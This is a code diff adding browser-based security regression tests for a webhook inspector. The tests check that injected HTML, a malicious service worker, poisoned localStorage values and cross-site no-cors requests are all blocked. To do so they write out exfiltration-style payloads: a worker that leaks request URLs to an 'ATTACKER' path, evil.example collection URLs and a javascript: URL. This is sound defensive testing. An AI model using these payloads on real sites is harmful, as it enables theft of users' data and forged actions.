@@ -646,3 +646,230 @@ fn ui_copy_as_curl_follows_the_target_field_and_remembers_it() {
     );
     assert_no_problems(&page);
 }
+
+/// Issue 11, each step of the attack in a real browser, on the worst setup: captures and the
+/// inspector on one origin (no `--capture-url`).
+#[test]
+fn ui_a_custom_response_cannot_act_on_the_inspectors_origin() {
+    let server = Server::start(&[]);
+    let Some(browser) = Browser::launch() else {
+        return;
+    };
+    let host = server.addr.to_string();
+    let victim = server.create_bin();
+    let victim_req = send(
+        &server,
+        &format!("POST /r/{victim}/hooks/pay HTTP/1.1\nHost: {host}\nConnection: close\n"),
+        b"{\"secret\": \"card\"}",
+    );
+
+    // The attacker's service worker script, as a custom response: with the header that widened
+    // its scope to the whole site, the spec is refused; without it, it is stored.
+    let sw_code = "self.addEventListener('fetch', e => fetch('/r/ATTACKER/leak?u=' + encodeURIComponent(e.request.url)))";
+    let refused = server.post_json(
+        "/api/bins",
+        &json!({"response": {"headers": [["Content-Type", "text/javascript"], ["Service-Worker-Allowed", "/"]], "body": sw_code}}).to_string(),
+    );
+    refused.assert_error(422, "invalid_response");
+    assert!(
+        refused.text().contains("Service-Worker-Allowed"),
+        "{}",
+        refused.text()
+    );
+    let sw_bin = server.create_bin_with(
+        &json!({"response": {"headers": [["Content-Type", "text/javascript"]], "body": sw_code}})
+            .to_string(),
+    )["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+
+    // Step 1: a custom text/html response with a script, opened in the browser. The script
+    // would mark the page, plant a copy-as-curl target and register the worker.
+    let html = format!(
+        "<!doctype html><title>harmless</title><p id=p>page</p><script>\
+         window.__pwned = 'script ran'; document.title = 'pwned';\
+         try {{ localStorage.setItem('hookbin.curlTarget', 'https://evil.example/collect'); }} catch (e) {{}}\
+         navigator.serviceWorker.register('/r/{sw_bin}/sw.js', {{scope: '/r/{sw_bin}/'}});\
+         </script>"
+    );
+    let page_bin = server.create_bin_with(
+        &json!({"response": {"headers": [["Content-Type", "text/html; charset=utf-8"]], "body": html}})
+            .to_string(),
+    )["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let page = browser.new_page(DESKTOP.0, DESKTOP.1);
+    page.goto(&server.url(&format!("/r/{page_bin}/landing")));
+    assert_eq!(
+        page.text("#p").as_deref(),
+        Some("page"),
+        "the page itself is shown"
+    );
+    assert_eq!(
+        page.eval("window.__pwned === undefined"),
+        json!(true),
+        "the script ran"
+    );
+    assert_eq!(page.eval("document.title"), json!("harmless"));
+    // It is in a sandbox: an opaque origin without the inspector's storage.
+    assert_eq!(page.eval("self.origin"), json!("null"));
+    assert_eq!(
+        page.eval(
+            "(() => { try { localStorage.length; return 'open'; } catch (e) { return e.name; } })()"
+        ),
+        json!("SecurityError")
+    );
+    let problems = page.problems().join("\n");
+    assert!(
+        problems.contains("allow-scripts"),
+        "the browser did not report blocking the script:\n{problems}"
+    );
+
+    // Step 2: register the worker from a page of the inspector's origin (as any script there
+    // would): the server refuses to serve the script, whatever the scope.
+    page.goto(&server.url(&format!("/bins/{victim}")));
+    for scope in [format!("/r/{sw_bin}/"), "/".to_owned()] {
+        let outcome = page.eval(&format!(
+            "navigator.serviceWorker.register('/r/{sw_bin}/sw.js', {{scope: '{scope}'}})\
+             .then(() => 'registered', e => 'refused: ' + e.message)"
+        ));
+        assert!(
+            outcome.as_str().unwrap().starts_with("refused"),
+            "scope {scope}: {outcome}"
+        );
+    }
+    assert_eq!(
+        page.eval("navigator.serviceWorker.getRegistrations().then(r => r.length)"),
+        json!(0)
+    );
+    assert_eq!(
+        server.get(&format!("/api/bins/{sw_bin}")).json()["request_count"],
+        0,
+        "the worker fetches were not recorded either"
+    );
+
+    // Step 3: a poisoned copy-as-curl target. Whatever was planted in this origin's storage,
+    // the request page only uses what it wrote itself, for this bin, and valid. (A new tab of
+    // the same browser: same storage, and none of the errors reported above.)
+    let page = browser.new_page(DESKTOP.0, DESKTOP.1);
+    page.goto(&server.url("/"));
+    let key = format!("hookbin.curlTarget:{victim}");
+    let poisons = [
+        (
+            "hookbin.curlTarget".to_owned(),
+            "https://evil.example/collect".to_owned(),
+        ),
+        (key.clone(), "https://evil.example/collect".to_owned()),
+        (
+            key.clone(),
+            json!({"bin": "aaaaaaaaaaaaaaaaaaaa", "target": "https://evil.example/"}).to_string(),
+        ),
+        (
+            key.clone(),
+            json!({"bin": victim, "target": "javascript:alert(1)"}).to_string(),
+        ),
+        (
+            key.clone(),
+            json!({"bin": victim, "target": "http://me:pw@evil.example/"}).to_string(),
+        ),
+    ];
+    let request_page = server.url(&format!("/bins/{victim}/requests/{victim_req}"));
+    let server_command = server
+        .get(&format!("/api/bins/{victim}/requests/{victim_req}/curl"))
+        .text();
+    for (name, value) in &poisons {
+        page.eval(&format!(
+            "localStorage.setItem({}, {})",
+            json!(name),
+            json!(value)
+        ));
+        page.goto(&request_page);
+        assert_eq!(
+            page.eval("document.querySelector('#curl-target').value"),
+            json!(""),
+            "{name} = {value} was used"
+        );
+        assert_eq!(
+            page.text("#curl-command").unwrap().trim(),
+            server_command.trim()
+        );
+        assert_eq!(
+            page.eval(&format!("localStorage.getItem({})", json!(name))),
+            Value::Null,
+            "{name} = {value} was kept"
+        );
+    }
+
+    // What the user types is still remembered, for this bin only.
+    page.eval("document.querySelector('#curl-target').value = 'http://localhost:3000/hooks'");
+    page.eval("document.querySelector('#curl-target').form.requestSubmit()");
+    page.wait_for(
+        "document.querySelector('#curl-command').textContent.includes('http://localhost:3000/hooks/hooks/pay')",
+        "the typed target",
+    );
+    page.goto(&request_page);
+    page.wait_for(
+        "document.querySelector('#curl-command').textContent.includes('http://localhost:3000/hooks/hooks/pay')",
+        "the remembered target",
+    );
+    let other = server.create_bin();
+    let other_req = send(
+        &server,
+        &format!("POST /r/{other} HTTP/1.1\nHost: {host}\nConnection: close\n"),
+        b"x",
+    );
+    page.goto(&server.url(&format!("/bins/{other}/requests/{other_req}")));
+    assert_eq!(
+        page.eval("document.querySelector('#curl-target').value"),
+        json!("")
+    );
+    assert_no_problems(&page);
+}
+
+/// Issue 11: a page of another site cannot create bins (or change anything) in the visitor's
+/// name with a no-cors request, which the browser sends without asking.
+#[test]
+fn ui_another_sites_page_cannot_post_to_the_api() {
+    let server = Server::start(&[]);
+    let Some(browser) = Browser::launch() else {
+        return;
+    };
+    let bin = server.create_bin();
+    let page = browser.new_page(DESKTOP.0, DESKTOP.1);
+    // A page of another site: http://localhost:PORT is not http://127.0.0.1:PORT. (Served by
+    // this same server as a custom response, because Chromium keeps pages of public or unknown
+    // origins from reaching loopback at all; its script is run through the DevTools protocol,
+    // as its own would be sandboxed.)
+    let elsewhere = server.create_bin_with(
+        r#"{"response": {"headers": [["Content-Type", "text/html"]], "body": "<title>elsewhere</title>"}}"#,
+    )["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    page.goto(&format!(
+        "http://localhost:{}/r/{elsewhere}/page",
+        server.addr.port()
+    ));
+    let target = server.url("");
+    let sent = page.eval(&format!(
+        "Promise.all([\
+           fetch('{target}/api/bins', {{method: 'POST', mode: 'no-cors', body: '{{}}'}}),\
+           fetch('{target}/bins', {{method: 'POST', mode: 'no-cors'}}),\
+           fetch('{target}/bins/{bin}/delete', {{method: 'POST', mode: 'no-cors', \
+             headers: {{'Content-Type': 'application/x-www-form-urlencoded'}}, body: 'x=1'}}),\
+         ]).then(() => 'sent', e => 'failed: ' + e)"
+    ));
+    assert_eq!(sent, json!("sent"), "{}", page.problems().join("\n"));
+    let metrics = server.get("/metrics").text();
+    assert!(
+        metrics.contains("hookbin_bins_created_total 2\n"),
+        "a bin was created: {metrics}"
+    );
+    assert_eq!(server.get(&format!("/api/bins/{bin}")).status, 200);
+    // The same requests from the server's own page do go through.
+    page.goto(&server.url("/"));
+    let created = page.eval("fetch('/api/bins', {method: 'POST'}).then(r => r.status)");
+    assert_eq!(created, json!(201));
+}
